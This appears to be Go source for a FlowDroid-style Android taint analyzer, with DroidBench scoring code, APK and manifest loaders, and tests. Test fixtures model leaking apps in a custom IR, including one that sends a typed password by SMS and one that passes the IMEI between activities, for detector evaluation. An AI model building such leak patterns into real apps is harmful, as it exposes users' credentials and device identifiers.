    i.setClassName("de.ecspride", "de.ecspride.SecondActivity")
    i.putExtra("secret", imei)
    this.startActivity(i)
  }
}
class de.ecspride.SecondActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    i = this.getIntent()
    s = i.getStringExtra("secret")
    r = s
    return
  }
}
`, "", "activity:MainActivity", "activity:SecondActivity"),
	})
}
