package droidbench

import (
	"context"
	"fmt"
	"strings"

	"flowdroid/internal/core"
)

// Analyzer is a tool under evaluation: it maps an app package to the
// number of distinct leaks it reports.
type Analyzer struct {
	Name string
	Run  func(files map[string]string) (int, error)
}

// FlowDroid is the analyzer under test, in the paper's configuration.
func FlowDroid() Analyzer {
	return Analyzer{
		Name: "FlowDroid",
		Run: func(files map[string]string) (int, error) {
			res, err := core.AnalyzeFiles(context.Background(), files, core.DefaultOptions())
			if err != nil {
				return 0, err
			}
			return len(res.Leaks()), nil
		},
	}
}

// CaseResult is one (analyzer, case) outcome, scored DroidBench-style:
// reported leaks up to the expected count are true positives, surplus
// reports are false positives, shortfall is missed leaks.
type CaseResult struct {
	Case   Case
	Found  int
	TP     int
	FP     int
	Missed int
	Err    error
}

func score(c Case, found int) CaseResult {
	r := CaseResult{Case: c, Found: found}
	r.TP = min(found, c.ExpectedLeaks)
	r.FP = max(0, found-c.ExpectedLeaks)
	r.Missed = max(0, c.ExpectedLeaks-found)
	return r
}

// RunSuite evaluates the analyzer on every case. A case that panics or
// errors is scored as ERR and never aborts the rest of the suite.
func RunSuite(a Analyzer) []CaseResult {
	cases := Cases()
	out := make([]CaseResult, 0, len(cases))
	for _, c := range cases {
		found, err := runCase(a, c)
		r := score(c, found)
		r.Err = err
		out = append(out, r)
	}
	return out
}

// runCase isolates one analyzer invocation: a panic inside the analyzer
// becomes this case's error instead of taking the batch down.
func runCase(a Analyzer, c Case) (found int, err error) {
	defer func() {
		if r := recover(); r != nil {
			found, err = 0, fmt.Errorf("droidbench: %s on %s: panic: %v", a.Name, c.Name, r)
		}
	}()
	return a.Run(c.Files)
}

// SuiteScore aggregates a suite run into the bottom rows of Table 1.
type SuiteScore struct {
	TP, FP, Missed int
	Precision      float64
	Recall         float64
	F              float64
}

// Score sums case results into precision/recall/F-measure.
func Score(results []CaseResult) SuiteScore {
	var s SuiteScore
	for _, r := range results {
		s.TP += r.TP
		s.FP += r.FP
		s.Missed += r.Missed
	}
	if s.TP+s.FP > 0 {
		s.Precision = float64(s.TP) / float64(s.TP+s.FP)
	}
	if s.TP+s.Missed > 0 {
		s.Recall = float64(s.TP) / float64(s.TP+s.Missed)
	}
	if s.Precision+s.Recall > 0 {
		s.F = 2 * s.Precision * s.Recall / (s.Precision + s.Recall)
	}
	return s
}

// marks renders a case result in the paper's circle notation: one ● per
// correct warning, one ○ per false warning, one · per missed leak; an
// empty cell means "no leaks expected, none reported".
func marks(r CaseResult) string {
	if r.Err != nil {
		return "ERR"
	}
	return strings.Repeat("●", r.TP) + strings.Repeat("○", r.FP) + strings.Repeat("·", r.Missed)
}

// RenderTable prints Table 1 for any set of analyzers whose results are
// given in the same case order.
func RenderTable(names []string, results [][]CaseResult) string {
	var sb strings.Builder
	sb.WriteString("● = correct warning, ○ = false warning, · = missed leak\n\n")
	fmt.Fprintf(&sb, "%-30s", "App Name")
	for _, n := range names {
		fmt.Fprintf(&sb, " %-12s", n)
	}
	sb.WriteString("\n")
	lastCat := ""
	for i, c := range Cases() {
		if c.Category != lastCat {
			lastCat = c.Category
			fmt.Fprintf(&sb, "--- %s\n", c.Category)
		}
		fmt.Fprintf(&sb, "%-30s", c.Name)
		for t := range names {
			fmt.Fprintf(&sb, " %-12s", marks(results[t][i]))
		}
		sb.WriteString("\n")
	}
	sb.WriteString(strings.Repeat("-", 30+13*len(names)) + "\n")
	row := func(label string, get func(SuiteScore) string) {
		fmt.Fprintf(&sb, "%-30s", label)
		for t := range names {
			fmt.Fprintf(&sb, " %-12s", get(Score(results[t])))
		}
		sb.WriteString("\n")
	}
	row("●, higher is better", func(s SuiteScore) string { return fmt.Sprintf("%d", s.TP) })
	row("○, lower is better", func(s SuiteScore) string { return fmt.Sprintf("%d", s.FP) })
	row("·, lower is better", func(s SuiteScore) string { return fmt.Sprintf("%d", s.Missed) })
	row("Precision p = TP/(TP+FP)", func(s SuiteScore) string { return fmt.Sprintf("%.0f%%", 100*s.Precision) })
	row("Recall r = TP/(TP+·)", func(s SuiteScore) string { return fmt.Sprintf("%.0f%%", 100*s.Recall) })
	row("F-measure 2pr/(p+r)", func(s SuiteScore) string { return fmt.Sprintf("%.2f", s.F) })
	return sb.String()
}
