package apk

import (
	"archive/zip"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path"
	"sort"
	"strings"
	"time"

	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
)

// Load reads an app package from a file system: AndroidManifest.xml at the
// root, layouts under res/layout/, and .ir code files anywhere. The
// returned app's program contains the framework model, is linked, and has
// its resource constants resolved.
func Load(fsys fs.FS) (*App, error) {
	manifestData, err := fs.ReadFile(fsys, "AndroidManifest.xml")
	if err != nil {
		return nil, fmt.Errorf("apk: reading manifest: %w", err)
	}
	manifest, err := ParseManifest(manifestData)
	if err != nil {
		return nil, err
	}

	app := &App{
		Package:  manifest.Package,
		Manifest: manifest,
		Layouts:  make(map[string]*Layout),
	}

	var irFiles []string
	var layoutFiles []string
	err = fs.WalkDir(fsys, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			return nil
		}
		switch {
		case strings.HasSuffix(p, ".ir"):
			irFiles = append(irFiles, p)
		case strings.HasPrefix(p, "res/layout/") && strings.HasSuffix(p, ".xml"):
			layoutFiles = append(layoutFiles, p)
		}
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("apk: scanning package: %w", err)
	}
	sort.Strings(irFiles)
	sort.Strings(layoutFiles)

	for _, p := range layoutFiles {
		data, err := fs.ReadFile(fsys, p)
		if err != nil {
			return nil, fmt.Errorf("apk: reading %s: %w", p, err)
		}
		name := strings.TrimSuffix(path.Base(p), ".xml")
		l, err := ParseLayout(name, data)
		if err != nil {
			return nil, err
		}
		app.Layouts[name] = l
	}

	prog := framework.NewProgram()
	for _, p := range irFiles {
		data, err := fs.ReadFile(fsys, p)
		if err != nil {
			return nil, fmt.Errorf("apk: reading %s: %w", p, err)
		}
		if err := irtext.ParseInto(prog, string(data), p); err != nil {
			return nil, err
		}
	}
	app.Program = prog

	// Build the resource table from the declared layouts and ids, plus
	// the ids referenced only from code (apps may call findViewById on
	// programmatically created controls).
	var layouts, ids []string
	for name, l := range app.Layouts {
		layouts = append(layouts, name)
		for _, c := range l.Controls {
			if c.ID != "" {
				ids = append(ids, c.ID)
			}
		}
	}
	for _, name := range collectResRefs(prog) {
		if rest, ok := strings.CutPrefix(name, "id/"); ok {
			ids = append(ids, rest)
		}
	}
	app.Res = NewResTable(ids, layouts)

	if err := prog.Link(); err != nil {
		return nil, fmt.Errorf("apk: linking %s: %w", app.Package, err)
	}
	if err := app.Res.ResolveConstants(prog); err != nil {
		return nil, err
	}
	if err := app.Validate(); err != nil {
		return nil, err
	}
	return app, nil
}

// collectResRefs gathers all symbolic resource names referenced from code.
func collectResRefs(prog *ir.Program) []string {
	seen := make(map[string]bool)
	add := func(v ir.Value) {
		if c, ok := v.(*ir.Const); ok && c.Kind == ir.ResConst && !seen[c.Str] {
			seen[c.Str] = true
		}
	}
	for _, cls := range prog.Classes() {
		for _, m := range cls.Methods() {
			for _, s := range m.Body() {
				switch s := s.(type) {
				case *ir.AssignStmt:
					add(s.RHS)
					if call, ok := s.RHS.(*ir.InvokeExpr); ok {
						for _, a := range call.Args {
							add(a)
						}
					}
				case *ir.InvokeStmt:
					for _, a := range s.Call.Args {
						add(a)
					}
				}
			}
		}
	}
	out := make([]string, 0, len(seen))
	for n := range seen {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// LoadDir loads an app package from a directory.
func LoadDir(dir string) (*App, error) {
	return Load(os.DirFS(dir))
}

// LoadZip loads an app package from a zip archive (the closest analogue
// of a real .apk file).
func LoadZip(zipPath string) (*App, error) {
	r, err := zip.OpenReader(zipPath)
	if err != nil {
		return nil, fmt.Errorf("apk: opening %s: %w", zipPath, err)
	}
	defer r.Close()
	return Load(r)
}

// LoadFiles loads an app package from an in-memory file map (path →
// contents). The benchmark suites embed their apps this way.
func LoadFiles(files map[string]string) (*App, error) {
	return Load(memFS(files))
}

// memFS is a minimal read-only fs.FS over a map, sufficient for Load's
// ReadFile and WalkDir usage.
type memFS map[string]string

func (m memFS) Open(name string) (fs.File, error) {
	if name == "." {
		return &memDir{fs: m, name: "."}, nil
	}
	if data, ok := m[name]; ok {
		return &memFile{name: name, data: data}, nil
	}
	// Directory?
	prefix := name + "/"
	for p := range m {
		if strings.HasPrefix(p, prefix) {
			return &memDir{fs: m, name: name}, nil
		}
	}
	return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrNotExist}
}

type memFile struct {
	name string
	data string
	off  int
}

func (f *memFile) Stat() (fs.FileInfo, error) {
	return memInfo{name: path.Base(f.name), size: len(f.data)}, nil
}
func (f *memFile) Close() error { return nil }

func (f *memFile) Read(p []byte) (int, error) {
	if f.off >= len(f.data) {
		return 0, io.EOF
	}
	n := copy(p, f.data[f.off:])
	f.off += n
	return n, nil
}

type memDir struct {
	fs      memFS
	name    string
	entries []fs.DirEntry
	off     int
}

func (d *memDir) Stat() (fs.FileInfo, error) {
	return memInfo{name: path.Base(d.name), dir: true}, nil
}
func (d *memDir) Close() error             { return nil }
func (d *memDir) Read([]byte) (int, error) { return 0, fmt.Errorf("is a directory") }

func (d *memDir) ReadDir(n int) ([]fs.DirEntry, error) {
	if d.entries == nil {
		seen := make(map[string]bool)
		prefix := ""
		if d.name != "." {
			prefix = d.name + "/"
		}
		var names []string
		for p := range d.fs {
			if !strings.HasPrefix(p, prefix) {
				continue
			}
			rest := strings.TrimPrefix(p, prefix)
			head, _, _ := strings.Cut(rest, "/")
			if seen[head] {
				continue
			}
			seen[head] = true
			names = append(names, head)
		}
		sort.Strings(names)
		for _, name := range names {
			full := name
			if prefix != "" {
				full = prefix + name
			}
			_, isFile := d.fs[full]
			d.entries = append(d.entries, memEntry{name: name, dir: !isFile})
		}
	}
	if n <= 0 {
		out := d.entries[d.off:]
		d.off = len(d.entries)
		return out, nil
	}
	if d.off >= len(d.entries) {
		return nil, io.EOF
	}
	end := d.off + n
	if end > len(d.entries) {
		end = len(d.entries)
	}
	out := d.entries[d.off:end]
	d.off = end
	return out, nil
}

type memEntry struct {
	name string
	dir  bool
}

func (e memEntry) Name() string { return e.name }
func (e memEntry) IsDir() bool  { return e.dir }
func (e memEntry) Type() fs.FileMode {
	if e.dir {
		return fs.ModeDir
	}
	return 0
}
func (e memEntry) Info() (fs.FileInfo, error) { return memInfo{name: e.name, dir: e.dir}, nil }

type memInfo struct {
	name string
	size int
	dir  bool
}

func (i memInfo) Name() string { return i.name }
func (i memInfo) Size() int64  { return int64(i.size) }
func (i memInfo) Mode() fs.FileMode {
	if i.dir {
		return fs.ModeDir | 0o555
	}
	return 0o444
}
func (i memInfo) ModTime() time.Time { return time.Time{} }
func (i memInfo) IsDir() bool        { return i.dir }
func (i memInfo) Sys() any           { return nil }
