package apk

import (
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"strings"

	"flowdroid/internal/framework"
)

// xmlManifest mirrors the AndroidManifest.xml structure we consume.
type xmlManifest struct {
	XMLName     xml.Name       `xml:"manifest"`
	Package     string         `xml:"package,attr"`
	Application xmlApplication `xml:"application"`
}

type xmlApplication struct {
	Attrs      []xml.Attr     `xml:",any,attr"`
	Activities []xmlComponent `xml:"activity"`
	Services   []xmlComponent `xml:"service"`
	Receivers  []xmlComponent `xml:"receiver"`
	Providers  []xmlComponent `xml:"provider"`
}

type xmlComponent struct {
	Attrs         []xml.Attr        `xml:",any,attr"`
	IntentFilters []xmlIntentFilter `xml:"intent-filter"`
}

type xmlIntentFilter struct {
	Actions []xmlAction `xml:"action"`
}

type xmlAction struct {
	Attrs []xml.Attr `xml:",any,attr"`
}

// attr fetches an attribute by local name, ignoring the android: namespace
// prefix (real manifests qualify attributes; we accept both).
func attr(attrs []xml.Attr, local string) (string, bool) {
	for _, a := range attrs {
		if a.Name.Local == local {
			return a.Value, true
		}
	}
	return "", false
}

// ParseManifest parses AndroidManifest.xml content into the manifest
// model. Component names beginning with "." are resolved against the
// package name, as on Android.
func ParseManifest(data []byte) (*Manifest, error) {
	var xm xmlManifest
	if err := xml.Unmarshal(data, &xm); err != nil {
		return nil, fmt.Errorf("apk: parsing manifest: %w", err)
	}
	if xm.Package == "" {
		return nil, fmt.Errorf("apk: manifest has no package attribute")
	}
	m := &Manifest{Package: xm.Package}
	if name, ok := attr(xm.Application.Attrs, "name"); ok && name != "" {
		if strings.HasPrefix(name, ".") {
			name = xm.Package + name
		}
		m.Application = name
	}
	add := func(kind framework.ComponentKind, comps []xmlComponent) error {
		for _, xc := range comps {
			name, ok := attr(xc.Attrs, "name")
			if !ok || name == "" {
				return fmt.Errorf("apk: %s component without android:name", kind)
			}
			if strings.HasPrefix(name, ".") {
				name = xm.Package + name
			}
			c := &Component{Kind: kind, Class: name, Enabled: true}
			if v, ok := attr(xc.Attrs, "enabled"); ok {
				c.Enabled = v != "false"
			}
			if v, ok := attr(xc.Attrs, "exported"); ok {
				c.Exported = v == "true"
			}
			for _, f := range xc.IntentFilters {
				for _, act := range f.Actions {
					if v, ok := attr(act.Attrs, "name"); ok {
						c.IntentActions = append(c.IntentActions, v)
						if v == "android.intent.action.MAIN" {
							c.Main = true
						}
					}
				}
			}
			m.Components = append(m.Components, c)
		}
		return nil
	}
	if err := add(framework.Activity, xm.Application.Activities); err != nil {
		return nil, err
	}
	if err := add(framework.Service, xm.Application.Services); err != nil {
		return nil, err
	}
	if err := add(framework.Receiver, xm.Application.Receivers); err != nil {
		return nil, err
	}
	if err := add(framework.Provider, xm.Application.Providers); err != nil {
		return nil, err
	}
	return m, nil
}

// ParseLayout parses a res/layout XML file into the flat control model.
// The element tree is walked generically: any element carrying android:id,
// android:onClick or android:inputType contributes a control.
func ParseLayout(name string, data []byte) (*Layout, error) {
	l := &Layout{Name: name}
	dec := xml.NewDecoder(strings.NewReader(string(data)))
	for {
		tok, err := dec.Token()
		if err != nil {
			if errors.Is(err, io.EOF) {
				break
			}
			return nil, fmt.Errorf("apk: parsing layout %s: %w", name, err)
		}
		se, ok := tok.(xml.StartElement)
		if !ok {
			continue
		}
		ctl := &Control{Kind: se.Name.Local}
		if v, ok := attr(se.Attr, "id"); ok {
			ctl.ID = strings.TrimPrefix(strings.TrimPrefix(v, "@+id/"), "@id/")
		}
		if v, ok := attr(se.Attr, "onClick"); ok {
			ctl.OnClick = v
		}
		if v, ok := attr(se.Attr, "inputType"); ok {
			ctl.InputType = v
		}
		if ctl.ID != "" || ctl.OnClick != "" || ctl.InputType != "" {
			l.Controls = append(l.Controls, ctl)
		}
	}
	return l, nil
}
