// Package apk models Android application packages: the manifest declaring
// the app's components, the layout XML resources declaring UI controls and
// their callbacks, a resource-ID table, and the app's code. It is the
// stand-in for real APK handling (unzipping, AXML decoding and Dexpler):
// packages are directories, zip archives or in-memory file sets containing
// AndroidManifest.xml, res/layout/*.xml and *.ir code files.
package apk

import (
	"fmt"
	"sort"

	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
)

// App is a fully loaded application: linked program (framework + app
// classes), manifest model, layouts and resource table.
type App struct {
	// Package is the app's package name from the manifest.
	Package string
	// Program holds the framework model plus the app's classes, linked.
	Program *ir.Program
	// Manifest is the parsed manifest model.
	Manifest *Manifest
	// Layouts maps layout names (file basename without .xml) to their
	// parsed models.
	Layouts map[string]*Layout
	// Res is the synthesized resource-ID table.
	Res *ResTable
}

// Components returns the manifest components that are enabled and whose
// classes exist in the program, in manifest order. Disabled components are
// filtered out exactly as the dummy-main generator requires.
func (a *App) Components() []*Component {
	var out []*Component
	for _, c := range a.Manifest.Components {
		if !c.Enabled {
			continue
		}
		if a.Program.Class(c.Class) == nil {
			continue
		}
		out = append(out, c)
	}
	return out
}

// ComponentByClass returns the manifest component entry for a class, or
// nil.
func (a *App) ComponentByClass(class string) *Component {
	for _, c := range a.Manifest.Components {
		if c.Class == class {
			return c
		}
	}
	return nil
}

// Validate checks structural consistency: every enabled component class
// must exist and be a subtype of its declared kind's base class.
func (a *App) Validate() error {
	for _, c := range a.Components() {
		base := framework.BaseClass(c.Kind)
		if !a.Program.SubtypeOf(c.Class, base) {
			return fmt.Errorf("apk: component %s declared as %s but does not extend %s",
				c.Class, c.Kind, base)
		}
	}
	return nil
}

// Manifest is the parsed AndroidManifest.xml model.
type Manifest struct {
	Package string
	// Application is the custom android.app.Application subclass named
	// by <application android:name=...>, or "".
	Application string
	Components  []*Component
}

// Component is one manifest component declaration.
type Component struct {
	Kind framework.ComponentKind
	// Class is the fully qualified component class name.
	Class string
	// Enabled mirrors android:enabled (default true). Disabled components
	// are excluded from the lifecycle model.
	Enabled bool
	// Main reports whether the component carries a MAIN action intent
	// filter.
	Main bool
	// Exported mirrors android:exported.
	Exported bool
	// IntentActions lists the actions of the component's intent filters.
	IntentActions []string
}

// Layout is a parsed res/layout/*.xml model: the flat list of controls
// that carry IDs, click handlers or input types.
type Layout struct {
	Name     string
	Controls []*Control
}

// Control is a UI control declared in a layout.
type Control struct {
	// Kind is the element name, e.g. "EditText" or "Button".
	Kind string
	// ID is the control's resource id name (from android:id="@+id/NAME"),
	// or "" if none.
	ID string
	// OnClick is the callback method name from android:onClick, or "".
	OnClick string
	// InputType mirrors android:inputType.
	InputType string
}

// IsPassword reports whether the control is a sensitive password input,
// whose contents the source manager treats as a taint source.
func (c *Control) IsPassword() bool {
	return c.InputType == "textPassword" || c.InputType == "textWebPassword" ||
		c.InputType == "numberPassword"
}

// PasswordControls returns the layout's password input controls.
func (l *Layout) PasswordControls() []*Control {
	var out []*Control
	for _, c := range l.Controls {
		if c.IsPassword() {
			out = append(out, c)
		}
	}
	return out
}

// ClickHandlers returns the layout's declaratively registered click
// handler method names, deduplicated and sorted.
func (l *Layout) ClickHandlers() []string {
	seen := make(map[string]bool)
	var out []string
	for _, c := range l.Controls {
		if c.OnClick != "" && !seen[c.OnClick] {
			seen[c.OnClick] = true
			out = append(out, c.OnClick)
		}
	}
	sort.Strings(out)
	return out
}
