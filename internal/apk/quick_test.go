package apk

import (
	"archive/zip"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"testing/quick"

	"flowdroid/internal/testapps"
)

// TestQuickResTableBijective: for any set of names, Lookup and NameOf are
// inverse, ids are unique, and layout/widget namespaces never collide.
func TestQuickResTableBijective(t *testing.T) {
	f := func(rawIDs, rawLayouts []string) bool {
		ids := sanitize(rawIDs)
		layouts := sanitize(rawLayouts)
		tb := NewResTable(ids, layouts)
		seen := make(map[int64]bool)
		check := func(kind string, names []string) bool {
			for _, n := range names {
				id, ok := tb.Lookup(kind + "/" + n)
				if !ok {
					return false
				}
				if seen[id] {
					return false // collision
				}
				seen[id] = true
				back, ok := tb.NameOf(id)
				if !ok || back != kind+"/"+n {
					return false
				}
			}
			return true
		}
		return check("id", dedupe(ids)) && check("layout", dedupe(layouts))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// TestQuickResTableDeterministic: the same name sets in any order produce
// the same table.
func TestQuickResTableDeterministic(t *testing.T) {
	f := func(raw []string, swap uint8) bool {
		names := sanitize(raw)
		if len(names) < 2 {
			return true
		}
		shuffled := append([]string(nil), names...)
		i := int(swap) % len(shuffled)
		shuffled[0], shuffled[i] = shuffled[i], shuffled[0]
		a := NewResTable(names, nil)
		b := NewResTable(shuffled, nil)
		for _, n := range names {
			ida, _ := a.Lookup("id/" + n)
			idb, _ := b.Lookup("id/" + n)
			if ida != idb {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func sanitize(in []string) []string {
	var out []string
	for i, s := range in {
		if s == "" {
			s = fmt.Sprintf("n%d", i)
		}
		out = append(out, s)
	}
	return out
}

func dedupe(in []string) []string {
	seen := make(map[string]bool)
	var out []string
	for _, s := range in {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	return out
}

// TestLoadZip packages the Listing 1 app into a real zip archive (the
// closest analogue of an .apk) and loads it through the zip path.
func TestLoadZip(t *testing.T) {
	dir := t.TempDir()
	zipPath := filepath.Join(dir, "app.apk")
	f, err := os.Create(zipPath)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(f)
	for p, content := range testapps.LeakageApp {
		w, err := zw.Create(p)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}

	app, err := LoadZip(zipPath)
	if err != nil {
		t.Fatalf("LoadZip: %v", err)
	}
	if app.Package != "com.example.leakage" {
		t.Errorf("package = %q", app.Package)
	}
	if len(app.Components()) != 1 {
		t.Errorf("components = %d", len(app.Components()))
	}
	if _, err := LoadZip(filepath.Join(dir, "missing.apk")); err == nil {
		t.Error("missing zip should fail")
	}
}

// TestMemFSContract: the in-memory FS behaves like a file system for the
// operations Load depends on.
func TestMemFSContract(t *testing.T) {
	m := memFS{
		"AndroidManifest.xml": "<manifest/>",
		"res/layout/a.xml":    "<L/>",
		"src/deep/c.ir":       "class A {}",
	}
	if _, err := m.Open("nope"); err == nil {
		t.Error("missing file should fail to open")
	}
	dir, err := m.Open("res")
	if err != nil {
		t.Fatalf("opening an implicit directory: %v", err)
	}
	info, err := dir.Stat()
	if err != nil || !info.IsDir() {
		t.Error("res should stat as a directory")
	}
	file, err := m.Open("AndroidManifest.xml")
	if err != nil {
		t.Fatal(err)
	}
	st, err := file.Stat()
	if err != nil || st.IsDir() || st.Size() != int64(len("<manifest/>")) {
		t.Errorf("file stat wrong: %v %v", st, err)
	}
}
