package apk

import (
	"fmt"
	"sort"

	"flowdroid/internal/ir"
)

// Resource ID bases follow the layout of real aapt-generated R classes.
const (
	layoutIDBase = 0x7f030000
	widgetIDBase = 0x7f050000
)

// ResTable is the synthesized resource-ID table of an app: the stand-in
// for the compiled resources (R class) of a real APK. IDs are assigned
// deterministically from the sorted resource names, so analyses and tests
// see stable values.
type ResTable struct {
	byName map[string]int64 // "id/pwdString", "layout/main" -> id
	byID   map[int64]string
}

// NewResTable builds a table for the given widget-ID names and layout
// names.
func NewResTable(widgetIDs, layouts []string) *ResTable {
	t := &ResTable{byName: make(map[string]int64), byID: make(map[int64]string)}
	assign := func(names []string, kind string, base int64) {
		sorted := append([]string(nil), names...)
		sort.Strings(sorted)
		for i, n := range sorted {
			full := kind + "/" + n
			if _, dup := t.byName[full]; dup {
				continue
			}
			id := base + int64(i)
			t.byName[full] = id
			t.byID[id] = full
		}
	}
	assign(layouts, "layout", layoutIDBase)
	assign(widgetIDs, "id", widgetIDBase)
	return t
}

// Lookup resolves a symbolic name ("id/pwdString" or "layout/main").
func (t *ResTable) Lookup(name string) (int64, bool) {
	id, ok := t.byName[name]
	return id, ok
}

// NameOf maps a resolved ID back to its symbolic name.
func (t *ResTable) NameOf(id int64) (string, bool) {
	n, ok := t.byID[id]
	return n, ok
}

// ResolveConstants walks all statements of the app's classes and resolves
// symbolic resource constants (@id/..., @layout/...) to their integer IDs.
// Unknown names are an error: the code references a resource the package
// does not define.
func (t *ResTable) ResolveConstants(prog *ir.Program) error {
	var firstErr error
	resolve := func(v ir.Value, m *ir.Method) {
		c, ok := v.(*ir.Const)
		if !ok || c.Kind != ir.ResConst {
			return
		}
		id, found := t.Lookup(c.Str)
		if !found {
			if firstErr == nil {
				firstErr = fmt.Errorf("apk: %s references undefined resource @%s", m, c.Str)
			}
			return
		}
		c.Int = id
	}
	for _, cls := range prog.Classes() {
		for _, m := range cls.Methods() {
			for _, s := range m.Body() {
				switch s := s.(type) {
				case *ir.AssignStmt:
					resolve(s.RHS, m)
					if call, ok := s.RHS.(*ir.InvokeExpr); ok {
						for _, a := range call.Args {
							resolve(a, m)
						}
					}
					if b, ok := s.RHS.(*ir.Binop); ok {
						resolve(b.L, m)
						resolve(b.R, m)
					}
					if ar, ok := s.RHS.(*ir.ArrayRef); ok {
						resolve(ar.Index, m)
					}
					if ar, ok := s.LHS.(*ir.ArrayRef); ok {
						resolve(ar.Index, m)
					}
				case *ir.InvokeStmt:
					for _, a := range s.Call.Args {
						resolve(a, m)
					}
				case *ir.ReturnStmt:
					if s.Value != nil {
						resolve(s.Value, m)
					}
				}
			}
		}
	}
	return firstErr
}

// ConstID returns the resolved integer value of a constant operand, or
// (0, false) if v is not an integer or resource constant.
func ConstID(v ir.Value) (int64, bool) {
	c, ok := v.(*ir.Const)
	if !ok {
		return 0, false
	}
	switch c.Kind {
	case ir.IntConst, ir.ResConst:
		return c.Int, true
	}
	return 0, false
}
