package apk

import (
	"os"
	"path/filepath"
	"testing"

	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
)

// leakageApp is the paper's Listing 1 example as an in-memory package: an
// activity that reads a password field in onRestart and sends it via SMS
// from an XML-declared button callback.
var leakageApp = map[string]string{
	"AndroidManifest.xml": `<?xml version="1.0"?>
<manifest xmlns:android="http://schemas.android.com/apk/res/android"
          package="com.example.leakage">
  <application>
    <activity android:name=".LeakageApp">
      <intent-filter>
        <action android:name="android.intent.action.MAIN"/>
      </intent-filter>
    </activity>
    <activity android:name=".DisabledActivity" android:enabled="false"/>
  </application>
</manifest>`,
	"res/layout/main.xml": `<?xml version="1.0"?>
<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
  <EditText android:id="@+id/username"/>
  <EditText android:id="@+id/pwdString" android:inputType="textPassword"/>
  <Button android:id="@+id/button1" android:onClick="sendMessage"/>
</LinearLayout>`,
	"classes.ir": `
class com.example.leakage.User {
  field name: java.lang.String
  field pwd: java.lang.String
  method init(n: java.lang.String, p: java.lang.String): void {
    this.name = n
    this.pwd = p
  }
  method getName(): java.lang.String {
    r = this.name
    return r
  }
  method getpwd(): java.lang.String {
    r = this.pwd
    return r
  }
}

class com.example.leakage.LeakageApp extends android.app.Activity {
  field user: com.example.leakage.User

  method onCreate(b: android.os.Bundle): void {
    this.setContentView(@layout/main)
  }

  method onRestart(): void {
    ut = this.findViewById(@id/username)
    local unameText: android.widget.EditText
    unameText = (android.widget.EditText) ut
    pt = this.findViewById(@id/pwdString)
    local pwdText: android.widget.EditText
    pwdText = (android.widget.EditText) pt
    uname = unameText.getText()
    pwd = pwdText.getText()
    if * goto skip
    u = new com.example.leakage.User(uname, pwd)
    this.user = u
  skip:
    return
  }

  // Declared in res/layout/main.xml via android:onClick.
  method sendMessage(v: android.view.View): void {
    u = this.user
    if * goto out
    pwd = u.getpwd()
    obf = pwd + "_"
    name = u.getName()
    msg = "User: " + name
    msg2 = msg + obf
    sms = android.telephony.SmsManager.getDefault()
    sms.sendTextMessage("+44 020 7321 0905", null, msg2, null, null)
  out:
    return
  }
}

class com.example.leakage.DisabledActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    return
  }
}
`,
}

func TestLoadFiles(t *testing.T) {
	app, err := LoadFiles(leakageApp)
	if err != nil {
		t.Fatalf("LoadFiles: %v", err)
	}
	if app.Package != "com.example.leakage" {
		t.Errorf("package = %q", app.Package)
	}
	comps := app.Components()
	if len(comps) != 1 {
		t.Fatalf("enabled components = %d, want 1 (disabled one filtered)", len(comps))
	}
	c := comps[0]
	if c.Class != "com.example.leakage.LeakageApp" || c.Kind != framework.Activity || !c.Main {
		t.Errorf("component = %+v", c)
	}
	if app.ComponentByClass("com.example.leakage.DisabledActivity").Enabled {
		t.Error("DisabledActivity should be disabled")
	}
}

func TestLayoutModel(t *testing.T) {
	app, err := LoadFiles(leakageApp)
	if err != nil {
		t.Fatal(err)
	}
	l := app.Layouts["main"]
	if l == nil {
		t.Fatal("layout main missing")
	}
	if len(l.Controls) != 3 {
		t.Fatalf("controls = %d, want 3", len(l.Controls))
	}
	pws := l.PasswordControls()
	if len(pws) != 1 || pws[0].ID != "pwdString" {
		t.Errorf("password controls = %v", pws)
	}
	handlers := l.ClickHandlers()
	if len(handlers) != 1 || handlers[0] != "sendMessage" {
		t.Errorf("click handlers = %v", handlers)
	}
}

func TestResourceResolution(t *testing.T) {
	app, err := LoadFiles(leakageApp)
	if err != nil {
		t.Fatal(err)
	}
	pwdID, ok := app.Res.Lookup("id/pwdString")
	if !ok {
		t.Fatal("id/pwdString not in resource table")
	}
	layoutID, ok := app.Res.Lookup("layout/main")
	if !ok {
		t.Fatal("layout/main not in resource table")
	}
	if pwdID == layoutID {
		t.Error("widget and layout ids must not collide")
	}
	if name, _ := app.Res.NameOf(pwdID); name != "id/pwdString" {
		t.Errorf("NameOf(%d) = %q", pwdID, name)
	}
	// The findViewById(@id/pwdString) constant must be resolved.
	m := app.Program.Class("com.example.leakage.LeakageApp").Method("onRestart", 0)
	found := false
	for _, s := range m.Body() {
		call := ir.CallOf(s)
		if call == nil || call.Ref.Name != "findViewById" {
			continue
		}
		id, ok := ConstID(call.Args[0])
		if !ok {
			t.Fatal("findViewById argument is not a resolvable constant")
		}
		if id == pwdID {
			found = true
		}
	}
	if !found {
		t.Error("no findViewById call resolved to id/pwdString")
	}
}

func TestValidateKindMismatch(t *testing.T) {
	bad := map[string]string{
		"AndroidManifest.xml": `<manifest package="x"><application>
			<service android:name=".NotAService"/></application></manifest>`,
